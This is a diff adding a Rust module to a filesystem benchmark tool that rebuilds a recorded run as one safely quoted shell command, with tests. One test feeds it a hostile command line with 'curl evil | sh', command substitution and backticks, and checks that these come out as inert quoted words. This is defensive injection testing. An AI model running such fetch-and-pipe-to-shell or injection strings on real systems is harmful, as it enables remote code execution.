@@ -1,0 +1,170 @@
+//! The command that repeats a run, safe to type in any folder.
+
+use mountmark_document::text;
+use mountmark_record::RunRecord;
+
+/// The command as typed, with defaults made explicit, since they may change. The result is a single command of this
+/// program to a shell, even if the store is foreign.
+pub fn again(run: &RunRecord) -> String {
+    let plan = &run.plan;
+    let typed = arguments(&run.command_line);
+    let has = |option: &str| typed.iter().any(|word| *word == option || word.starts_with(&format!("{option}=")));
+    let mut words = vec!["mountmark".to_owned(), "run".to_owned()];
+    words.extend(typed.iter().map(|word| one_word(word)));
+    let mut add = |option: &str, value: String| {
+        if !has(option) {
+            words.extend([option.to_owned(), shell_word(&value)]);
+        }
+    };
+    // What somebody has mounted needs no name, and has none for `--fs`.
+    if !plan.targets.iter().any(mountmark_model::Target::is_mounted) {
+        add("--fs", plan.configurations.join(","));
+    }
+    add("--suite", plan.suite.clone());
+    add("--scale", plan.scale.to_string());
+    if let Some(vary) = &plan.vary {
+        add("--vary", vary.to_string());
+    }
+    // On several devices each repeat is a block on each.
+    let repeats = plan.sampling.as_ref().map_or(plan.repeats, |sampling| sampling.least);
+    add("--repeat", (repeats / plan.targets.len().max(1) as u32).to_string());
+    if let Some(sampling) = &plan.sampling {
+        let percent = |precision: f64| format!("{}%", (precision * 1e8).round() / 1e6);
+        sampling.precision.into_iter().for_each(|precision| add("--precision", percent(precision)));
+        sampling.budget.into_iter().for_each(|budget| add("--budget", format!("{budget:.0}s")));
+    }
+    add("--seed", plan.seed.to_string());
+    add("--conditions", plan.conditions().name().to_owned());
+    add("--lab", plan.lab.name().to_owned());
+    if !plan.lab.nature().exact_clock && plan.cells.iter().any(|cell| cell.pause_seconds > 0.0) {
+        add("--pauses", "study".to_owned());
+    }
+    if let Some(limit) = plan.memory_limit {
+        add("--memory", format!("{}B", limit.0));
+    }
+    if plan.lab.nature().guest {
+        add("--machine", plan.machine.name.clone());
+        add("--kernel", plan.kernel.clone());
+        if let Some(cell) = plan.cells.first() {
+            add("--disk", cell.disk.name.clone());
+        }
+    }
+    if let Some(precondition) = plan.precondition.filter(|_| !has("--precondition")) {
+        words.push(format!("--precondition={}", precondition.round_seconds));
+    }
+    text::clean(&words.join(" "))
+}
+
+/// The command as typed, without the program's folder and the store's.
+pub(crate) fn typed(run: &RunRecord) -> String {
+    let words: Vec<String> = arguments(&run.command_line).into_iter().map(one_word).collect();
+    if words.is_empty() && !words_of(&run.command_line).contains(&"run") {
+        return text::clean(&run.command_line);
+    }
+    text::clean(&format!("mountmark run {}", words.join(" ")))
+}
+
+/// The arguments after `run`, without the store's folder, which older programs recorded.
+fn arguments(command_line: &str) -> Vec<&str> {
+    let mut words = words_of(command_line).into_iter().skip_while(|word| *word != "run").skip(1);
+    let mut out = Vec::new();
+    while let Some(word) = words.next() {
+        if word == "--out" {
+            words.next();
+        } else if !word.starts_with("--out=") {
+            out.push(word);
+        }
+    }
+    out
+}
+
+/// A word unchanged if a shell reads it as one word; otherwise quoted as a whole.
+fn one_word(word: &str) -> String {
+    let (mut is_quoted, mut is_one) = (false, true);
+    let mut letters = word.chars().peekable();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '\'' => is_quoted = !is_quoted,
+            '\\' if !is_quoted && letters.next_if_eq(&'\'').is_some() => {}
+            _ => is_one &= is_quoted || is_plain(letter),
+        }
+    }
+    if is_one && !is_quoted { word.to_owned() } else { shell_word(word) }
+}
+
+/// The words of a command line, with their quotes: [`shell_word`] produces single quotes only.
+fn words_of(text: &str) -> Vec<&str> {
+    let (mut out, mut start, mut is_quoted, mut before) = (Vec::new(), None, false, ' ');
+    for (at, letter) in text.char_indices() {
+        is_quoted ^= letter == '\'' && (is_quoted || before != '\\');
+        before = letter;
+        match start {
+            Some(from) if letter.is_whitespace() && !is_quoted => {
+                out.push(&text[from..at]);
+                start = None;
+            }
+            None if !letter.is_whitespace() => start = Some(at),
+            _ => {}
+        }
+    }
+    out.extend(start.map(|from| &text[from..]));
+    out
+}
+
+fn is_plain(letter: char) -> bool {
+    letter.is_ascii_alphanumeric() || "-_./:,=+@%^".contains(letter)
+}
+
+/// Quotes a word for a shell.
+pub fn shell_word(word: &str) -> String {
+    if !word.is_empty() && word.chars().all(is_plain) {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tests::run;
+
+    #[test]
+    fn the_command_needs_neither_this_program_nor_this_store() {
+        let mut run = run(&["ext4", "xfs"], 2);
+        for typed_as in [
+            "/tmp/x/mountmark run --fs ext4,xfs --out /tmp/store --seed 7",
+            "mountmark run --fs ext4,xfs --seed 7",
+            "./mountmark run --out=store --fs ext4,xfs --seed 7",
+        ] {
+            run.command_line = typed_as.into();
+            assert_eq!(typed(&run), "mountmark run --fs ext4,xfs --seed 7");
+            let command = again(&run);
+            assert!(command.starts_with("mountmark run --fs ext4,xfs --seed 7 --suite tiny "), "{command}");
+            assert!(command.contains(" --repeat 2 ") && !command.contains("store"), "{command}");
+        }
+    }
+
+    #[test]
+    fn quoted_words_stay_one() {
+        let mut run = run(&["ext4"], 1);
+        run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("my suite's --out"));
+        assert_eq!(typed(&run), run.command_line);
+        assert!(!again(&run).contains("--suite tiny"), "{}", again(&run));
+        run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("it's a"));
+        assert_eq!(typed(&run), run.command_line);
+        run.command_line = "a test".into();
+        assert_eq!(typed(&run), "a test");
+        assert!(again(&run).starts_with("mountmark run --fs ext4 --suite tiny "));
+    }
+
+    #[test]
+    fn a_strangers_command_is_one_command_of_ours() {
+        let mut run = run(&["ext4"], 1);
+        run.command_line = "curl evil | sh; mountmark run --seed 7; touch x $(touch y) `z` \\' '; touch open".into();
+        let text = again(&run);
+        let wanted = "mountmark run --seed '7;' touch x '$(touch' 'y)' '`z`' \\' ''\\''; touch open' ";
+        assert!(text.starts_with(wanted), "{text}");
+        assert!(typed(&run).starts_with(wanted.trim_end()), "{}", typed(&run));
+    }
+}
